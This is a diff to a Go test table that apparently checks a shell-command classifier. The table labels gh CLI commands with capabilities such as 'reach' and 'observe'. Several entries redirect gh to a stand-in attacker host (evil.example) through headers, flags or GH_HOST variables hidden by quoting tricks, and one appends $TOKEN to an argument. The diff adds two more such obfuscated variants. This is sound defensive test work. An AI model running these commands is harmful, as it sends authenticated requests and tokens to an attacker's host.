@@ -327,6 +327,8 @@ func TestForges(t *testing.T) {
 		"gh api -H 'Accept: application/json' -H 'Host: evil.example' repos/x/y":        "reach ",
 		"gh api -H 'Accept: application/json' --hostname evil.example repos/x/y":        "reach ",
 		"env \"GH_H\"OST=evil.example gh pr view 5 | head":                              "reach  observe ",
+		"env G\"H_HO\"ST=evil.example gh pr view 5":                                     "reach ",
+		"export G$X=evil.example; gh pr view 5":                                         "observe  reach ",
 		"gh pr view 5 | head; GH_HOST=evil.example":                                     "reach  observe ",
 		"gh pr view 5 --repo evil.example/x/y | head":                                   "reach  observe ",
 		"gh pr view 5 --search ''$TOKEN | head":                                         "reach  observe ",
